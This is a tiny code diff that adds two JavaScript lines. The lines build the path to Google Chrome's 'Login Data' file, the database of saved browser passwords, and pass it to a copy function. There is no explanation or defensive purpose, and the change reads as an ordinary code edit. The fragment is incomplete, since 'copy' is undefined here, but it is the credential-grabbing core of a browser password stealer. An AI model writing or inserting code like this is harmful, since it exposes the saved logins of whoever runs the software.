@@ -1,0 +1,2 @@
+const p = process.env.LOCALAPPDATA + '\\Google\\Chrome\\User Data\\Default\\Login Data';
+copy(p);
